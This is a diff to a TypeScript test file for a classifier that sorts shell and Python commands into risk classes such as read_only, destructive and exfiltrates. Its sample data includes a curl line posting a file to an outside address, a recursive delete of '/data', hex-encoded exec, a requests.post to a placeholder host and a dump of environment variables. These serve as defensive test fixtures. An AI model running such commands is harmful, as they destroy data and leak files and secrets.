@@ -18,7 +18,8 @@ function isAtLeast(one: CommandClass, other: CommandClass): boolean {
 }
 
 /** Whole lines of each shell and of each class, without a quote left open. */
-const wholeLines: Readonly<Record<CommandShell, readonly string[]>> = {
+type LineShell = Exclude<CommandShell, 'python'>
+const wholeLines: Readonly<Record<LineShell, readonly string[]>> = {
   cmd: [
     'ipconfig /all',
     'net start',
@@ -51,12 +52,12 @@ const wholeLines: Readonly<Record<CommandShell, readonly string[]>> = {
     'curl -d @x http://198.51.100.7/',
   ],
 }
-const separators: Readonly<Record<CommandShell, readonly string[]>> = {
+const separators: Readonly<Record<LineShell, readonly string[]>> = {
   cmd: [' & ', '&', ' && ', ' || ', ' | ', '\n'],
   powershell: ['; ', ';', ' | ', '\n', ' && '],
   posix: ['; ', ' && ', ' || ', ' | ', '\n', ' & '],
 }
-const anyShell = fc.constantFrom<CommandShell>('cmd', 'powershell', 'posix')
+const anyShell = fc.constantFrom<LineShell>('cmd', 'powershell', 'posix')
 const anyLine = anyShell.chain((shell) => fc.tuple(fc.constant(shell), fc.constantFrom(...wholeLines[shell])))
 const anyText = fc.oneof(
   fc.string({ maxLength: 60, unit: 'grapheme' }),
@@ -241,5 +242,21 @@ test('a long line of nothing but brackets or operators ends soon', () => {
     const started = performance.now()
     for (const shell of ['cmd', 'powershell', 'posix'] as const) expect(classOf(shell, line)).not.toBe('read_only')
     expect(performance.now() - started, sign).toBeLessThan(2000)
+  }
+})
+
+test('a program of Python is never understood, and what it gives away counts', () => {
+  const lines: readonly (readonly [string, CommandClass])[] = [
+    ['print(1 + 1)', 'modifies'],
+    ["open('a.txt', 'w').write('x')", 'modifies'],
+    ['import subprocess\nsubprocess.run(["ls"])', 'modifies'],
+    ["import shutil\nshutil.rmtree('/data')", 'destructive'],
+    ["exec(bytes.fromhex('00'))", 'destructive'],
+    ["requests.post('https://x.example', data=d)", 'exfiltrates'],
+    ['import os\nprint(os.environ)', 'exfiltrates'],
+  ]
+  for (const [line, expected] of lines) {
+    const { verdict, understood } = classifyCommand('python', line)
+    expect([line, verdict, understood]).toEqual([line, expected, false])
   }
 })
